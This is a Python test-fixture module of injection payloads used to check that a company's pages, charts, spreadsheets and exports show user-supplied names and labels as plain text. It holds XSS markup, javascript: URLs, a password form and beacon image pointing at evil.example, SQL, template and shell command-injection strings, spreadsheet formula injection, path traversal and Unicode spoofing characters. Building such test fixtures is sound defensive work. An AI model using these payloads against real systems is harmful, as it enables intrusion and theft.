"""Strings that try to become something else: markup, script, a link, a formula, a format, a terminal's command.

Each is planted wherever a company's own words reach a page: names of customers and products, labels, model names,
people's names, reasons, file names. On a page each must stand as the text it is, or not at all.

What a string would do, if it ran, is to set ``window.__pwned``, to change the title, to open a dialog, or to ask
``evil.example`` for something.
"""

from __future__ import annotations

MARKUP: tuple[str, ...] = (
    "<script>window.__pwned=1</script>",
    '"><script>window.__pwned=2</script>',
    "</script><script>window.__pwned=3</script>",
    "<svg onload=window.__pwned=4>",
    "<svg/onload=alert`5`>",
    "<img src=x onerror=window.__pwned=6>",
    '"><img src=x onerror="document.title=7">',
    "'><img src=https://evil.example/a.png>",
    '" onmouseover="window.__pwned=8" x="',
    "' onfocus='window.__pwned=9' autofocus tabindex=1 x='",
    "<iframe src=javascript:parent.__pwned=10></iframe>",
    "<iframe srcdoc='<script>parent.__pwned=11</script>'></iframe>",
    "<style>@import 'https://evil.example/s.css';</style>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example/><input name=password>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=window.__pwned=12>",
    "<!--><img src=x onerror=window.__pwned=13>-->",
    "<![CDATA[<script>window.__pwned=14</script>]]>",
    "<details open ontoggle=window.__pwned=15>",
    "<template><script>window.__pwned=16</script></template>",
    "&lt;script&gt;window.__pwned=17&lt;/script&gt;",
    "&#60;img src=x onerror=window.__pwned=18&#62;",
    "\\u003cscript\\u003ewindow.__pwned=19\\u003c/script\\u003e",
)
"""Markup and script: React and ``html.escape`` must write them as text."""

DRAWN: tuple[str, ...] = (
    '<a href="https://evil.example/">Click</a>',
    '<a href="javascript:window.__pwned=20">Click</a>',
    "<b>bold</b><br>second<br>third<sup>up</sup>",
    '<span style="fill:red;font-size:900px">huge</span>',
    "%{customdata[0]} %{x} %{y:.3e} <extra>gone</extra>",
    "%{x|%Y} %{z:$,.2~s} %{text:}",
    "$\\href{javascript:window.__pwned=21}{x}$",
)
"""What a chart library reads as its own: pseudo-HTML, templates of the hover text, number formats, formulas."""

ADDRESSES: tuple[str, ...] = (
    "javascript:window.__pwned=22",
    "JaVaScRiPt:window.__pwned=23//@a.b",
    "data:text/html,<script>parent.__pwned=24</script>",
    "//evil.example/path",
    "https://evil.example/?q=<b>",
    "vbscript:msgbox(25)",
    "mailto:a@evil.example?cc=b@evil.example&subject=<x>",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
)
"""Addresses: a name must never become a link."""

CODE: tuple[str, ...] = (
    "{{7*7}}",
    "${window.__pwned=26}",
    "#{7*7}",
    "{%print(1)%}",
    "`+window.__pwned+`",
    "';window.__pwned=27;//",
    "{constructor.constructor('window.__pwned=28')()}",
    "{0.__class__.__mro__} {value} {unit}",
    "%s%s%n%x %(name)s",
    "__proto__",
    "constructor",
    "hasOwnProperty",
    '{"__proto__": {"polluted": 1}}',
    "'; drop table people; --",
    '" or "1"="1',
    "$(touch /tmp/pwned) `id` | id ; id",
)
"""Templates, formats, keys of objects, statements."""

FORMULAS: tuple[str, ...] = (
    "=1+1",
    '=HYPERLINK("https://evil.example/","x")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "＝1+1",
)
"""What a spreadsheet would calculate."""

MARKDOWN: tuple[str, ...] = (
    "[click](javascript:window.__pwned=29)",
    "![beacon](https://evil.example/beacon.png)",
    "<https://evil.example/>",
    "# Heading\n* item\n```\ncode\n```",
)
"""Markdown: links, a picture that would tell somebody who looked."""

LETTERS: tuple[str, ...] = (
    "\u202egnp.exe\u202c right to left",
    "\u2066isolate\u2069 \u200fmark\u200e",
    "zero\u200bwidth\ufeffjoin\u2060er",
    "👩‍👩‍👧‍👦🏳️‍🌈👍🏽 family",
    "Z̸̡̢̛̙̪͍̹͌͛͝a̵̢̟̋l̶̤̽g̷͙̚o̴͕̒ " + "\u0301" * 30,
    "line\r\nSet-Cookie: evil=1\r\n\r\n<b>body</b>",
    "\x1b[31mred\x1b[0m \x1b]0;title\x07",
    "bell\x07 back\x08 delete\x7f c1\x85",
    "\u2028line\u2029paragraph",
    "İstanbul ıI ſs ﬁ Å ｆｕｌｌ",
    "аdmin (Cyrillic а)",
)
"""Letters that change the order, the place or the look of others, and those that end a line."""

LONG = "long" * 25_000
"""100 000 letters without a place to break."""

WIDE = "wide" * 60
"""240 letters without a place to break: a label that nobody would write and a page must bear."""

SHORT: tuple[str, ...] = (*MARKUP, *DRAWN, *ADDRESSES, *CODE, *FORMULAS, *MARKDOWN, *LETTERS)
"""Every payload of a bearable length."""

NUL = "nul\x00byte"
"""Where a store keeps it: no database of ours does, a Parquet file and a JSON body may."""


def printable(text: str) -> bool:
    """May this stand in a YAML file, a file name or a form as it is: no control characters?"""
    return all(letter.isprintable() or letter in " \u200d" for letter in text)
